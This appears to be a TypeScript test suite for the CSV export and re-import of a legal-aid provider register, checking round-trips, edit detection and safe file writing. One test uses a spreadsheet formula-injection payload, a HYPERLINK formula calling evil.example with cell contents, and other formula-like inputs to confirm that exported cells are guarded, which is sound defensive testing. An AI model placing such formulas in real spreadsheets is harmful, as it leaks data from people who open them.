import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { exampleGazetteer } from '@legalmap/data/examples/gazetteer.ts'
import { exampleProvider } from '@legalmap/data/examples/records.ts'
import { guardCell } from '@legalmap/data/importing/cells/reading.ts'
import { planProviders } from '@legalmap/data/importing/plan-providers.ts'
import { providerFields } from '@legalmap/data/importing/provider-fields.ts'
import { writeProviders } from '@legalmap/data/importing/write-table.ts'
import { isEqual } from '@legalmap/data/model/equal.ts'
import { columnsOf } from '@legalmap/data/model/fact.ts'
import { type Provider, provider } from '@legalmap/data/model/provider.ts'
import { type ProviderFact, providerFacts } from '@legalmap/data/model/provider-facts.ts'
import { accessibilityFeatures } from '@legalmap/data/vocabulary/accessibility.ts'
import { audiences } from '@legalmap/data/vocabulary/audience.ts'
import { closureKinds } from '@legalmap/data/vocabulary/closure-kind.ts'
import { costs } from '@legalmap/data/vocabulary/cost.ts'
import { locationVisibilities } from '@legalmap/data/vocabulary/location-visibility.ts'
import { phoneChannels } from '@legalmap/data/vocabulary/phone-channel.ts'
import { providerKinds } from '@legalmap/data/vocabulary/provider-kind.ts'
import { providerStatuses } from '@legalmap/data/vocabulary/provider-status.ts'
import { spokenLanguages } from '@legalmap/data/vocabulary/spoken-language.ts'
import { topics } from '@legalmap/data/vocabulary/topic.ts'
import { waysToCome } from '@legalmap/data/vocabulary/way-to-come.ts'
import { runExport } from '@legalmap/scripts/export/export-command.ts'
import { openRegister } from '@legalmap/scripts/register-store.ts'
import { readCsv } from '@legalmap/server/importing/read-csv.ts'
import { csvOf } from '@legalmap/server/importing/write-csv.ts'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { gazetteer } from './shipped.ts'

/** Texts that a table, a spreadsheet or the import's own signs could take for something else. */
const awkward = [
  '-',
  '–',
  "'",
  "'=x",
  '=1+1',
  '+996312626210',
  '@sum',
  '\tx',
  'a;b',
  'a|b',
  'a, b',
  'two\nlines',
  '"',
  ' x ',
  'ң\u0306',
  '\u0000',
  '#N/A',
]
const text = (most: number) =>
  fc.oneof(
    fc.constantFrom('', ...awkward, 'Приёмная', 'Кабыл алуу бөлмөсү', 'Reception (main)', 'ru: x / en: y'),
    fc.string({ maxLength: most }),
    fc.string({ unit: 'grapheme', maxLength: Math.floor(most / 20) }),
  )
const localized = (most: number) => fc.record({ ky: text(most), ru: text(most), en: text(most) })
const some = <T>(words: readonly T[]) => fc.uniqueArray(fc.constantFrom(...words), { maxLength: 4 })
const date = fc.constantFrom('', '2019', '2019-07', '2019-07-16')
const phone = fc.record({
  number: fc.constantFrom('114', '1234', '+996312626210', '+996555000111', '+12025550123', '2345', '+99612345678'),
  extension: fc.constantFrom('', '195', '0'),
  label: localized(30),
  channels: fc.uniqueArray(fc.constantFrom(...phoneChannels), { minLength: 1 }),
})
const closureDay = fc.constantFrom('', '2026-11-28', '2026-12-04')
const closure = fc
  .record({
    kind: fc.constantFrom(...closureKinds),
    from: closureDay,
    until: closureDay,
    reason: localized(30),
    place: localized(30),
  })
  .chain(({ place, ...rest }) =>
    fc.constantFrom('', 'Mo-Fr 10:00-14:00; PH off').map((hours) => ({
      ...rest,
      schedule: rest.kind === 'other_hours' ? hours : '',
      place: rest.kind === 'moved' ? place : { ky: '', ru: '', en: '' },
    })),
  )
const webAddress = fc.constantFrom('https://a.example/', 'https://b.example/x?y=1;z', 'http://c.example/ф')
type TextFact = Extract<(typeof providerFacts)[number], { shape: 'localized' | 'line' | 'text' }>['key']
/** Every fact that is a text, also one that is added later. */
const texts = Object.fromEntries(
  providerFacts.flatMap(({ key, shape }): [string, fc.Arbitrary<unknown>][] => {
    if (shape === 'localized') return [[key, localized(40)]]
    return shape === 'line' || shape === 'text' ? [[key, text(40)]] : []
  }),
) as { [Key in TextFact]: fc.Arbitrary<Provider[Key]> }
const record: fc.Arbitrary<Provider> = fc
  .record({
    ...texts,
    kind: fc.constantFrom(...providerKinds),
    unit_id: fc.constantFrom('', 'north', 'lake', 'quarter', 'nowhere'),
    place_id: fc.constantFrom('', 's1', 's4', 's99'),
    serves_units: some(['valley', 'lake', 'nowhere']),
    phones: fc.array(phone, { maxLength: 3 }),
    email: fc.constantFrom('', 'a@mail.example'),
    website: fc.oneof(fc.constant(''), webAddress),
    schedule: fc.constantFrom('', 'Mo-Fr 09:00-17:00', 'rubbish'),
    topics: some(topics),
    audiences: some(audiences),
    languages: some(spokenLanguages),
    cost: fc.constantFrom('' as const, ...costs),
    closures: fc.array(closure, { maxLength: 2 }),
    ways_to_come: some(waysToCome),
    supported_until: date,
    closed_on: date,
    successor_id: fc.constantFrom('', 'next'),
    accessibility: some(accessibilityFeatures),
    status: fc.constantFrom(...providerStatuses),
    opened_on: date,
    supported_by: fc.array(text(20), { maxLength: 3 }),
    sources: fc.array(fc.record({ url: fc.oneof(fc.constant(''), webAddress), title: text(20) }), { maxLength: 3 }),
    source_date: date,
    verified_at: fc.constantFrom('', '2026-11-20T06:00:00.000Z', '2026-11-20T06:00:00Z'),
    location: fc.option(
      fc.record({
        longitude: fc.double({ min: 69.3, max: 80.2, noNaN: true }),
        latitude: fc.double({ min: 39.3, max: 43.2, noNaN: true }),
      }),
      { nil: null },
    ),
    location_visibility: fc.constantFrom(...locationVisibilities),
    note: text(200),
  })
  .map((given) => exampleProvider({ ...given, id: 'a' }))
  .filter((one) => provider.safeParse(one).success && JSON.stringify(one).isWellFormed())

/** What coordinators write every day: nothing in it that a file cannot say. */
const everyday = fc.constantFrom('', 'Приёмная', 'Кабыл алуу бөлмөсү', 'Reception (main), 2nd floor', 'тел. 114; "Ишеним"')
const everydayTexts = fc.record({ ky: everyday, ru: everyday, en: everyday })
const everydayPhones: Provider['phones'] = [
  { number: '114', extension: '', label: { ky: '', ru: '', en: '' }, channels: ['call'] },
  { number: '+996312626210', extension: '195', label: { ky: '', ru: 'приёмная', en: '' }, channels: ['call'] },
  { number: '+996555000111', extension: '', label: { ky: '', ru: '', en: '' }, channels: ['call', 'whatsapp'] },
]
const everydayClosures: Provider['closures'] = [
  {
    kind: 'closed',
    from: '2026-11-28',
    until: '2026-12-04',
    reason: { ky: 'Оңдоо', ru: 'Ремонт, вход со двора', en: '' },
    schedule: '',
    place: { ky: '', ru: '', en: '' },
  },
  {
    kind: 'moved',
    from: '2026-12-05',
    until: '',
    reason: { ky: '', ru: '', en: '' },
    schedule: '',
    place: { ky: '', ru: 'ул. Ленина, 5', en: '' },
  },
]
const everydayRecord: fc.Arbitrary<Provider> = fc
  .tuple(
    record,
    fc.record(
      Object.fromEntries(
        providerFacts.flatMap(({ key, shape }): [string, fc.Arbitrary<unknown>][] => {
          if (shape === 'localized') return [[key, everydayTexts]]
          return shape === 'line' || shape === 'text' ? [[key, everyday]] : []
        }),
      ),
    ),
    some(['valley', 'lake']),
    fc.uniqueArray(fc.constantFrom('Министерство юстиции', 'UNDP', 'ПРООН, Бишкек'), { maxLength: 3 }),
    fc.uniqueArray(
      webAddress.map((url) => ({ url, title: '' })),
      { selector: ({ url }) => url, maxLength: 3 },
    ),
  )
  .map(([one, ofTexts, serves_units, supported_by, sources]) => ({
    ...one,
    ...ofTexts,
    // what are texts to the model and more to a reader
    email: one.email,
    website: one.website,
    schedule: one.schedule,
    serves_units,
    supported_by,
    sources,
    verified_at: one.verified_at && '2026-11-20T06:00:00.000Z',
    phones: one.phones.length > 0 ? everydayPhones : [],
    closures: one.closures.length > 0 ? everydayClosures : [],
  }))
  .filter((one) => provider.safeParse(one).success)

const revision = 7
const exported = (one: Provider) => writeProviders([{ revision, record: one }], exampleGazetteer)
const read = (table: { columns: string[]; rows: string[][] }) =>
  readCsv(new TextEncoder().encode(csvOf(table)), 'export.csv').table
const plan = (table: { columns: string[]; rows: string[][] }, current: Provider) =>
  planProviders(read(table), [{ revision, record: current }], exampleGazetteer)

describe('a provider that is exported', () => {
  test.each([
    ['anything', record],
    ['everyday', everydayRecord],
  ])('holds here, now and then, something in every fact that a file has: %s', (_, made) => {
    const some = fc.sample(made, 300)
    const never = providerFacts.filter(
      (fact: ProviderFact) =>
        columnsOf(fact).length > 0 && some.every((one) => isEqual(one[fact.key as keyof Provider], fact.empty)),
    )
    expect(
      never.map(({ key }) => key),
      'give it values of',
    ).toEqual([])
  })

  test('and imported as it is changes nothing, whatever it holds', () => {
    fc.assert(
      fc.property(record, (one) => {
        const { edits, unchanged, refused, changed } = plan(exported(one), one)
        expect([changed, edits, unchanged.length, refused.length]).toEqual([[], [], 1, 0])
      }),
      { numRuns: 400 },
    )
  })

  test('says every fact in a cell that reads as it, or says that it cannot', () => {
    fc.assert(
      fc.property(record, (one) => {
        const { columns, rows, unsaid } = exported(one)
        const cells = new Map(columns.map((column, index) => [column, rows[0]?.[index] ?? '']))
        for (const field of providerFields) {
          const isEmpty = JSON.stringify(field.get(one)) === JSON.stringify(field.empty)
          const isUnsaid = unsaid.some(({ column }) => column === field.column)
          expect([field.column, cells.get(field.column) === '']).toEqual([field.column, isEmpty || isUnsaid])
        }
      }),
      { numRuns: 300 },
    )
  })

  test('says every fact of everyday: what a reader or a writer got wrong would be left unsaid', () => {
    fc.assert(
      fc.property(everydayRecord, (one) => {
        expect(exported(one).unsaid).toEqual([])
      }),
      { numRuns: 300 },
    )
  })

  test('and verified comes back with one edited phone as exactly that change', () => {
    fc.assert(
      fc.property(record, (one) => {
        const before = { ...one, verified_at: '2026-11-20T06:00:00.000Z', verified_by: 'Aigul', schedule: '', phones: [] }
        const table = exported(before)
        const at = table.columns.indexOf('phones')
        const rows = table.rows.map((cells) => cells.map((cell, index) => (index === at ? '0312 62-62-10' : cell)))
        const { edits, changed, refused } = plan({ ...table, rows }, before)
        expect([changed[0]?.fields.map(({ column }) => column), refused]).toEqual([['phones'], []])
        const phones = [{ number: '+996312626210', extension: '', label: { ky: '', ru: '', en: '' }, channels: ['call'] }]
        expect(edits.map((edit) => edit.record)).toEqual([{ ...before, phones }])
      }),
      { numRuns: 150 },
    )
  })

  test('but was changed since keeps what was verified, and says so', () => {
    const before = exampleProvider({ id: 'a', verified_at: '2026-11-20T06:00:00.000Z', source_date: '2019' })
    const table = exported(before)
    const rows = table.rows.map((cells) =>
      cells.map((cell, index) => (table.columns[index] === 'email' ? 'a@mail.example' : cell)),
    )
    const { edits, findings } = planProviders(read({ ...table, rows }), [{ revision: 8, record: before }], exampleGazetteer)
    expect([edits, findings.map(({ code }) => code)]).toEqual([[], expect.arrayContaining(['revision_old', 'verified_later'])])
  })
})

test('no cell of an export begins as a formula does, and reading takes the guard off again', () => {
  const note = '=HYPERLINK("https://evil.example/?"&A1)'
  const one = exampleProvider({ id: 'a', note, landmark: { ky: '+1', ru: '@a', en: "'-x" } })
  for (const cell of exported(one).rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/u)
  expect(exported(one).unsaid).toEqual([])
  fc.assert(
    fc.property(text(10), (cell) => {
      expect(guardCell(cell)).not.toMatch(/^[=+\-@\t\r]/u)
    }),
  )
})

describe('legalmap export', () => {
  test('writes the whole register, notes and all, for its owner alone, and never over another file', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'legalmap-export-'))
    let out = ''
    const run = (...given: string[]) =>
      runExport(given, {
        openStore: (asked) => openRegister(':memory:', gazetteer, { ...asked, readonly: false }, () => {}),
        gazetteer,
        out: (line) => {
          out += `${line}\n`
        },
      })
    const file = join(folder, 'providers.csv')
    expect(await run('providers', file)).toBe(0)
    expect(out).toContain('101 providers are in')
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const { rows, columns } = readCsv(readFileSync(file), 'providers.csv').table
    expect(rows).toHaveLength(101)
    expect(rows.filter(({ cells }) => cells[columns.indexOf('note')] !== '').length).toBeGreaterThan(30)
    const store = await openRegister(':memory:', gazetteer, { readonly: false }, () => {})
    const { providers } = await store.register()
    await store.close()
    expect(planProviders(readCsv(readFileSync(file), 'p.csv').table, providers, gazetteer).unchanged).toHaveLength(101)
    writeFileSync(file, 'mine')
    expect([await run('providers', file), readFileSync(file, 'utf8')]).toEqual([1, 'mine'])
    expect(await Promise.all([run(), run('visits', file), run('providers'), run('providers', file, '--language', 'de')])).toEqual(
      [2, 2, 2, 2],
    )
    expect([await run('--help'), out.includes('also what is never published')]).toEqual([0, true])
    rmSync(folder, { recursive: true })
  })
})
